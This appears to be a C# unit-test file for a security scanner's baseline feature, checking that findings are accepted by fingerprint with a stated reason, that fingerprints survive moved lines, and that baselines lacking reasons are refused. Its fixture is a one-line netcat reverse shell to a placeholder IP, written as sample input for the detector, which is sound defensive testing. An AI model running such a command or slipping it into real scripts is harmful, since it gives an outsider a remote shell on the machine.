namespace Symbiont.Scanning.Tests.Baselines;

public sealed class BaselineTests
{
    private const string Text = "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 1\n";

    private static readonly SkillScanner Scanner = new(new ScanOptions { Analyzers = [] });

    [Fact]
    public void A_finding_is_accepted_by_its_fingerprint_with_a_reason()
    {
        var found = Assert.Single(Scanner.ScanText(Text, "a.sh").Findings);
        var baseline = Baseline.Parse($$"""{"accepted": [{"fingerprint": "{{found.Fingerprint}}", "reason": "the lab's own listener", "rule": "x"}]}""");

        var result = baseline.Apply(Scanner.ScanText(Text, "a.sh"));

        Assert.Empty(result.Findings);
        Assert.True(result.Passed);
        Assert.Equal("the lab's own listener", Assert.Single(result.Accepted).Reason);
        Assert.Empty(baseline.Stale(result));
    }

    [Fact]
    public void A_fingerprint_survives_lines_that_come_above_and_not_another_text()
    {
        var before = Assert.Single(Scanner.ScanText(Text, "a.sh").Findings);
        var moved = Assert.Single(Scanner.ScanText("#!/bin/sh\n\n# a new line\n" + Text[10..], "a.sh").Findings);
        var changed = Assert.Single(Scanner.ScanText(Text.Replace("203.0.113.9", "203.0.113.10", StringComparison.Ordinal), "a.sh").Findings);

        Assert.NotEqual(before.Line, moved.Line);
        Assert.Equal(before.Fingerprint, moved.Fingerprint);
        Assert.NotEqual(before.Fingerprint, changed.Fingerprint);
    }

    [Fact]
    public void Equal_findings_of_one_file_have_fingerprints_of_their_own()
    {
        var findings = Scanner.ScanText(Text + Text[10..], "a.sh").Findings;

        Assert.Equal(2, findings.Select(finding => finding.Fingerprint).Distinct().Count());
    }

    [Fact]
    public void What_is_accepted_and_no_longer_found_is_told()
    {
        var baseline = new Baseline([new("0123", "gone")]);

        Assert.Equal("gone", Assert.Single(baseline.Stale(baseline.Apply(Scanner.ScanText("hello", "a.sh")))).Reason);
    }

    [Theory]
    [InlineData("[]")]
    [InlineData("{")]
    [InlineData("{\"accepted\": [{\"fingerprint\": \"a\"}]}")]
    [InlineData("{\"accepted\": [{\"fingerprint\": \"a\", \"reason\": \" \"}]}")]
    [InlineData("{\"accepted\": [1]}")]
    public void A_baseline_without_reasons_is_refused(string json) => Assert.Throws<BaselineException>(() => Baseline.Parse(json));
}
